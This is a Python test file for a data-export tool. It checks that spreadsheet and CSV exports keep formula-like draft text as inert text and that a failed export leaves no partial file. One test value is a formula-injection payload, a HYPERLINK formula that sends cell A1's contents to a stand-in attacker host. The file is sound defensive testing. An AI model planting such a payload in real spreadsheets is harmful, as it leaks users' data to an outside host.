"""Issue 15, item 3: exports write draft text as text, and never leave a partial file.

`=100%` printed in a draft stays `=100%` (not a live formula that shows 1), `=HYPERLINK(…)`
stays text, an ESC from a bad converter does not crash the workbook; CSV carries the OWASP
guard by default and drops it on request.
"""
from __future__ import annotations

import csv
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest
from test_ingest_support import ROOT, cli_env, gold_record

from jixiao import load
from jixiao.export import write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _hostile_archive(db_url: str) -> str:
    record = gold_record()
    indicators = record["projects"][0]["indicators"]
    indicators[0]["value_raw"] = "=100%"
    indicators[1]["description"] = HYPERLINK
    indicators[2]["description"] = "转换器留下的\x1b[31m转义"
    indicators[3]["description"] = "@SUM(1+1)"
    indicators[4]["description"] = "-2+3"
    load.upgrade(db_url)
    engine = load.make_engine(db_url)
    try:
        load.write_record(engine, record, path="/drafts/hostile.txt", sha256="f" * 64)
    finally:
        engine.dispose()
    return db_url


def _export(db_url, fmt, out, *extra) -> subprocess.CompletedProcess:
    run = subprocess.run([sys.executable, "-m", "jixiao.cli", "export", "--db", db_url, "--format", fmt, str(out),
                          *extra], cwd=ROOT, env=cli_env(), capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    return run


def test_xlsx_cells_are_text_never_formulas(db_url, tmp_path):
    out = tmp_path / "out" / "archive.xlsx"
    out.parent.mkdir()  # export names a missing folder instead of making it (issue 14)
    _export(_hostile_archive(db_url), "xlsx", out)
    sheet = openpyxl.load_workbook(out)["indicators"]
    header = [cell.value for cell in sheet[1]]
    cells = {}
    for column in ("value_raw", "description"):
        index = header.index(column)
        cells[column] = [row[index] for row in sheet.iter_rows(min_row=2)]
    formulas = [c.value for column in cells.values() for c in column if c.data_type == "f"]
    assert formulas == []
    by_value = {c.value: c for column in cells.values() for c in column}
    for text in ("=100%", HYPERLINK, "@SUM(1+1)", "-2+3"):
        assert by_value[text].data_type == "s", text
    assert "转换器留下的\\x1b[31m转义" in by_value  # the escape shown, not a crash
    assert sorted(p.name for p in out.parent.iterdir()) == ["archive.xlsx"]  # no temporary left behind


def test_csv_guards_formulas_by_default_and_not_when_asked(db_url, tmp_path):
    archive = _hostile_archive(db_url)
    _export(archive, "csv", tmp_path / "guarded")
    _export(archive, "csv", tmp_path / "raw", "--no-formula-guard")

    def column(folder, name):
        with open(folder / "indicators.csv", encoding="utf-8-sig", newline="") as fh:
            return [row[name] for row in csv.DictReader(fh)]

    guarded = set(column(tmp_path / "guarded", "value_raw")) | set(column(tmp_path / "guarded", "description"))
    raw = set(column(tmp_path / "raw", "value_raw")) | set(column(tmp_path / "raw", "description"))
    for text in ("=100%", HYPERLINK, "@SUM(1+1)", "-2+3"):
        assert "'" + text in guarded and text not in guarded
        assert text in raw
    # numbers are numbers, not guarded text: a negative value stays -5
    assert sorted(p.name for p in (tmp_path / "guarded").iterdir()) == ["documents.csv", "indicators.csv",
                                                                        "projects.csv"]


class _Unprintable:
    def __str__(self):
        raise RuntimeError("this cell cannot be written")


def test_a_failed_export_leaves_the_previous_file_untouched(tmp_path):
    out = tmp_path / "archive.xlsx"
    out.write_bytes(b"the previous export")
    frame = pd.DataFrame({"a": ["ok", _Unprintable()]})
    with pytest.raises(RuntimeError):
        write_xlsx({"indicators": frame}, out)
    assert out.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["archive.xlsx"]
